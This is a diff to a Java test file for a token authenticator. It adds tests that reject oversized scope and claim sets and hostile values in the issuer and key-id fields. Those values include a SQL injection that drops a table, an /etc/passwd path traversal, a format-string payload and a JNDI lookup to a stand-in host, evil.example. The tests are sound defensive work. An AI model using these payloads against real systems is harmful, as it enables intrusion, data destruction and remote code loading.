@@ -314,7 +314,33 @@ class TokenFormTest {
   }
 
   @Test
-  void onlyOneBearerHeaderCountsAndTheQueryDoesNotC39() {
+  void aHundredThousandScopesOrClaimsAreTooManyBytesA20() {
+    String scopes = "storage.read:/x ".repeat(100_000).strip();
+    refuse(SHARED.token(scopes), "malformed");
+    Map<String, Object> claims = SHARED.claims("storage.read:/");
+    for (int i = 0; i < 100_000; i++) {
+      claims.put("c" + i, i);
+    }
+    refuse(SHARED.sign(claims), "malformed");
+  }
+
+  @Test
+  void namesInATokenAreNamesAndNothingElseF12() {
+    for (String hostile :
+        List.of(
+            "' OR 1=1; DROP TABLE revocation; --",
+            "../../etc/passwd",
+            "%s%n%x",
+            "${jndi:ldap://evil.example/x}",
+            "rsa-1' --")) {
+      refuse(SHARED.sign(SHARED.claims("storage.read:/", "iss", hostile)), "unknown-issuer");
+      Map<String, Object> header = Map.of("alg", "RS256", "typ", "JWT", "kid", hostile);
+      refuse(SHARED.sign(header, SHARED.claims("storage.read:/")), "unknown-key");
+    }
+  }
+
+  @Test
+  void onlyOneBearerHeaderCountsAndTheQueryDoesNotC39D11() {
     assertThat(authenticator.authenticate(Headers.none()).isAnonymous()).isTrue();
     for (String other : List.of("Basic dTpw", "Bearer", "Negotiate x", "")) {
       assertThatThrownBy(() -> authenticator.authenticate(Headers.authorization(other)))
